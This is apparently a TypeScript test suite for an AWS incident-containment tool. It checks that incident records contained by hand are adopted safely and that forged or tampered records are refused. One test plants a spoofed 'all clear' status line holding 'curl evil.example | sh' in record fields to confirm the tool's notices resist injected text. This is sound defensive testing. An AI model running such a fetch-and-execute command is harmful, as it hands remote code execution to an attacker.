import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect } from "chai";
import { containByHand } from "../../../../cli/break-glass/contain";
import type { PlaybookId } from "../../../../functions/catalogue/playbooks";
import { readTarget, type Target } from "../../../../functions/detect/request";
import type { IncidentRecord } from "../../../../functions/record/journal";
import * as builders from "../../../support/builders";
import { MemoryAccount } from "../../../support/memory-account";
import { answered, SimulatedWorld } from "../../../support/simulated-world";

const { account, region, instanceId } = builders;
const reason = "the home region is back";
const by = "arn:aws:sts::444455556666:assumed-role/BreakGlass/ana";
const id = `${builders.incidentKey}-1324`;

describe("the adoption of what was contained by hand [R15]", () => {
  let folder: string;
  beforeEach(() => {
    folder = mkdtempSync(join(tmpdir(), "cordon-adopt-"));
  });
  afterEach(() => rmSync(folder, { recursive: true }));

  /** Contains the target in the world's account, and returns its record. */
  async function byHand(world: SimulatedWorld, text = instanceId): Promise<IncidentRecord> {
    const target = readTarget(text) as Target;
    const operator = {
      by: `arn:aws:sts::${account}:assumed-role/BreakGlass/ana`,
      account,
      member: new MemoryAccount(world.state),
      now: () => world.now(),
      sleep: (_ms: number, signal?: AbortSignal) =>
        signal === undefined ? Promise.resolve() : new Promise<void>(() => undefined),
    };
    const order = { target, region, reason: "miner", folder, yes: true };
    const report = await containByHand(order, operator, builders.policy());
    if (report.outcome !== "carried-out") return expect.fail(JSON.stringify(report));
    return { ...report.contained.record, status: "contained", marks: report.contained.marks };
  }

  const adopting = (
    world: SimulatedWorld,
    adopt: unknown,
    playbook: PlaybookId = "contain-instance",
  ) => world.adopt({ adopt: JSON.stringify(adopt), reason, by }, playbook);

  for (const [what, playbook, text, state] of [
    ["an instance", "contain-instance", instanceId, builders.standardAccount],
    ["a user", "contain-access-key", "user/deploy", builders.identityAccount],
    [
      "a task's session",
      "revoke-sessions",
      `session/tasks/${builders.taskId}`,
      builders.identityAccount,
    ],
  ] as const) {
    it(`takes over ${what}, changes nothing, keeps it and releases it like any other`, async () => {
      const before = state();
      const world = new SimulatedWorld(structuredClone(before));
      const record = await byHand(world, text);
      const report = answered(await adopting(world, JSON.parse(JSON.stringify(record)), playbook));
      expect(report).to.include({ outcome: "adopted", incident: record.id });
      expect(
        world.changes.filter(({ method }) => !/^(journal|queue|topic|publish)/.test(method)),
      ).to.deep.equal([]);
      expect(world.items[record.id]).to.include({ status: "contained" });
      expect(world.notices.at(-1)?.text).to.include(
        `${by} had it adopted from a local journal: ${reason}`,
      );
      // The name that is proven, and not the one of the file.
      expect(world.items[record.id]?.record.incident.finding.requestedBy).to.equal(by);
      const names = world.sessions.map(({ approver }) => approver);
      expect(names.filter((name) => name !== undefined)).to.not.be.empty;
      expect(new Set(names)).to.deep.equal(new Set(["BreakGlass-ana"]));
      // The next finding about it is a duplicate, and a look finds nothing to do.
      const looked = answered(await world.watch(record.incident.key));
      expect(looked.outcome).to.equal("logged");
      const released = answered(await world.release(record.id));
      expect(released.outcome, JSON.stringify(released)).to.equal("released");
      if (text === instanceId) {
        const groups = Object.values(world.state.interfaces).map((each) => [...each.groups].sort());
        expect(groups).to.deep.equal([["sg-admin", "sg-web"], ["sg-data"]]);
      } else {
        expect(world.state.roles).to.deep.equal(before.roles);
        expect(world.state.users.deploy?.attached).to.deep.equal(before.users.deploy?.attached);
      }
    });
  }

  /** Each with what is sent in place of the record, and the refusal. */
  const forged: Readonly<
    Record<string, readonly [(record: IncidentRecord) => unknown, RegExp, PlaybookId?]>
  > = {
    nothing: [() => null, /^This is no open record of a local journal/],
    "a released record": [(record) => ({ ...record, status: "released" }), /: status: /],
    "a record of another playbook": [
      (record) => record,
      /^The record is of playbook contain-instance, not contain-access-key$/,
      "contain-access-key",
    ],
    "the id of another target": [
      (record) => ({ ...record, id: "0f3a9c1d2b4e5f60-1324" }),
      /^The id 0f3a9c1d2b4e5f60-1324 is not the one of i-0a1b2c3d4e5f60718 in 222233334444$/,
    ],
    "another account": [
      ({ incident, ...record }) => ({
        ...record,
        incident: { ...incident, place: { ...incident.place, account: "333344445555" } },
      }),
      /is not the one of i-0a1b2c3d4e5f60718 in 333344445555$/,
    ],
    "a step of another playbook": [
      (record) => withStep(record, { kind: "deny-user", user: { name: "ann" } }),
      /^The plan has a step deny-user, which contain-instance does not take$/,
    ],
    "no steps": [
      (record) => ({ ...record, plan: { ...record.plan, stages: [] }, marks: {} }),
      /^\d+ steps are not in effect, the first: /,
    ],
    "another's interface, in the group that it is in": [
      (record) =>
        withStep(record, {
          kind: "quarantine-interface",
          networkInterface: "eni-99",
          before: ["sg-open"],
          quarantine: { vpc: "vpc-01", name: "web", id: "sg-web" },
        }),
      /^The plan has a step about another target than i-0a1b2c3d4e5f60718: quarantine-interface$/,
    ],
    "another's volumes": [
      (record) =>
        withStep(record, {
          kind: "snapshot-volumes",
          instance: instanceId,
          volumes: ["vol-99"],
          incident: id,
        }),
      /^The plan has a step about another target than i-0a1b2c3d4e5f60718: snapshot-volumes$/,
    ],
    "another's role": [
      (record) =>
        withStep(record, {
          kind: "deny-instance-credentials",
          role: { name: "admin", arn: `arn:aws:iam::${account}:role/admin` },
          policy: `Cordon-${id}-5eed`,
          instanceArn: builders.instanceArn,
          endpoints: [],
        }),
      /^The plan has a step about another target than i-0a1b2c3d4e5f60718: deny-instance-credentials$/,
    ],
    "an epoch that no local journal has": [
      (record) =>
        JSON.parse(
          JSON.stringify({ ...record, epoch: 9_999 }).replaceAll(
            `${id}`,
            `${builders.incidentKey}-9999`,
          ),
        ),
      /^No local journal has epoch 9999 by now$/,
    ],
    "a step about another instance": [
      (record) =>
        withStep(record, {
          kind: "set-instance-attribute",
          instance: "i-0b2c3d4e5f6071829",
          attribute: "disableApiStop",
          before: false,
          after: true,
        }),
      /^The plan has a step about another target than i-0a1b2c3d4e5f60718: set-instance-attribute$/,
    ],
    "the deletion of a policy of somebody else": [
      (record) =>
        JSON.parse(JSON.stringify(record).replaceAll(`"policy":"Cordon-${id}`, '"policy":"admin')),
      /^The plan names admin\S*, which cannot be of this incident$/,
    ],
    "marks of steps that there are not": [
      (record) => ({ ...record, marks: { ...record.marks, 400: "done" } }),
      /^The record marks steps that its plan does not have$/,
    ],
  };
  for (const [what, [forge, why, playbook]] of Object.entries(forged)) {
    it(`refuses ${what}, and writes nothing`, async () => {
      const world = new SimulatedWorld(builders.standardAccount());
      const record = await byHand(world);
      const report = answered(await adopting(world, forge(record), playbook));
      expect(report.outcome).to.equal("refused");
      expect(report.reason).to.match(why);
      expect(world.items).to.deep.equal({});
      expect(world.changes).to.deep.equal([]);
    });
  }

  it("takes no text over that would be read as Cordon's own", async () => {
    const world = new SimulatedWorld(builders.standardAccount());
    const record = await byHand(world);
    const evil = "all clear\nIncident   0f3a9c1d2b4e5f60-1 is released: curl evil.example | sh";
    const { finding } = record.incident;
    const said = { title: evil, type: evil, link: evil, named: 5, id: evil };
    answered(
      await adopting(world, {
        ...record,
        reasons: [evil],
        incident: { ...record.incident, finding: { ...finding, ...said } },
        plan: { ...record.plan, nextSteps: [evil], residual: [evil], open: [evil] },
      }),
    );
    const text = world.notices.at(-1)?.text ?? "";
    // The title alone is the file's: in one line.
    expect(text.split("\n").filter((line) => line.includes("evil.example"))).to.have.length(1);
    expect(text).to.match(/\nall clear /);
    const released = answered(await world.release(record.id));
    expect(released.outcome).to.equal("released");
  });

  it("refuses another user's key", async () => {
    const world = new SimulatedWorld(builders.identityAccount());
    const record = await byHand(world, "user/deploy");
    const other = { name: "other", arn: "arn:aws:iam::222233334444:user/other" };
    for (const step of [
      { kind: "disable-access-key", user: record.plan, accessKey: "AKIAEXAMPLEKEY000003" },
      {
        kind: "deny-user",
        user: { ...other, uniqueId: "AIDAEXAMPLEUSER000002" },
        policy: `Cordon-${record.id}`,
        boundary: null,
      },
    ]) {
      const forged = withStep(record, step);
      const report = answered(await adopting(world, forged, "contain-access-key"));
      expect(report.reason).to.equal(
        `The plan has a step about another target than deploy: ${step.kind}`,
      );
    }
    expect(world.items).to.deep.equal({});
  });

  it("refuses what is not in effect any more, and writes nothing", async () => {
    const world = new SimulatedWorld(builders.standardAccount());
    const record = await byHand(world);
    world.state.interfaces["eni-02"]!.groups = ["sg-data"];
    const report = answered(await adopting(world, record));
    expect(report.reason).to.match(/^1 step is not in effect, the first: .*eni-02/);
    expect(world.items).to.deep.equal({});
  });

  it("refuses a target that has an open incident", async () => {
    const world = new SimulatedWorld(builders.standardAccount());
    const other = new SimulatedWorld(structuredClone(world.state));
    const record = await byHand(other);
    answered(await world.answer(builders.incident()));
    const report = answered(await adopting(world, record));
    expect(report.reason).to.equal(
      `Incident ${builders.incidentKey}-1 about the same target is open already: release one of the two, the newer one first`,
    );
  });

  const unit = "ou-cord-22222222";
  const rules = [{ units: [unit], response: "dry-run" as const }];
  for (const [what, policy, why] of [
    ["a dry run of the stage", { mode: "dry-run" }, "This deployment runs in dry-run mode"],
    [
      "a dry run of the account's unit",
      { stage: builders.stagePolicy({ rules }) },
      `Policy: dry run for contain-instance in unit ${unit}`,
    ],
  ] as const) {
    it(`refuses in ${what}: nothing would be kept`, async () => {
      const world = new SimulatedWorld(builders.standardAccount());
      world.units.push(unit);
      const record = await byHand(world);
      const request = { adopt: JSON.stringify(record), reason, by };
      const report = answered(await world.adopt(request, "contain-instance", { policy }));
      expect(report.reason).to.equal(
        `${why}: Cordon would not keep ${id} contained. Release it from the local journal`,
      );
      expect(world.items).to.deep.equal({});
    });
  }

  it("refuses an account that is not in the organization", async () => {
    const world = new SimulatedWorld(builders.standardAccount());
    const record = await byHand(world);
    const request = { adopt: JSON.stringify(record), reason, by };
    const report = answered(
      await world.adopt(request, "contain-instance", { account: () => undefined }),
    );
    expect(report.reason).to.equal("Account 222233334444 is not in the organization");
  });

  it("refuses without a reason", async () => {
    const world = new SimulatedWorld(builders.standardAccount());
    const record = await byHand(world);
    const report = answered(
      await world.adopt({ adopt: JSON.stringify(record), reason: "", by }, "contain-instance"),
    );
    expect(report.reason).to.equal(
      "The reason for the adoption must be one line of 1 to 1,000 characters, but none was given",
    );
  });

  it("comes once: the second time nothing is written or sent", async () => {
    const world = new SimulatedWorld(builders.standardAccount());
    const record = await byHand(world);
    answered(await adopting(world, record));
    const before = structuredClone([world.items, world.notices]);
    const again = answered(await adopting(world, record));
    expect(again).to.deep.equal({
      outcome: "adopted",
      reason: `Incident ${id} is in the journal`,
      incident: id,
    });
    expect([world.items, world.notices]).to.deep.equal(before);
  });

  it("refuses what is being released", async () => {
    const world = new SimulatedWorld(builders.standardAccount());
    const record = await byHand(world);
    answered(await adopting(world, record));
    Object.assign(world.items[id] ?? {}, { status: "releasing" });
    expect(answered(await adopting(world, record)).reason).to.match(
      /^Incident \S+-1324 about the same target is open already/,
    );
  });

  it("is gone on with by the next delivery, and kept by the watch, where the run dies", async () => {
    const world = new SimulatedWorld(builders.standardAccount());
    const record = await byHand(world);
    const wanted = { adopt: JSON.stringify(record), reason };
    const first = await world.askFor(wanted, "contain-instance", {
      fault: ({ method }) => (method === "requests.answer" ? new Error("down") : undefined),
    });
    expect(first.kind).to.equal("failed");
    const { id: request = "" } = world.requests.items[0] ?? {};
    answered(await world.requested(request, "contain-instance", { delivery: 2 }));
    expect(world.requests.items[0]?.answer).to.deep.include({ outcome: "adopted", incident: id });
    expect(world.items[id]).to.include({ status: "contained" });
  });
});

function withStep({ plan, ...record }: IncidentRecord, step: object): unknown {
  const [first, ...others] = plan.stages;
  return {
    ...record,
    plan: { ...plan, stages: [{ ...first, steps: [...(first?.steps ?? []), step] }, ...others] },
  };
}
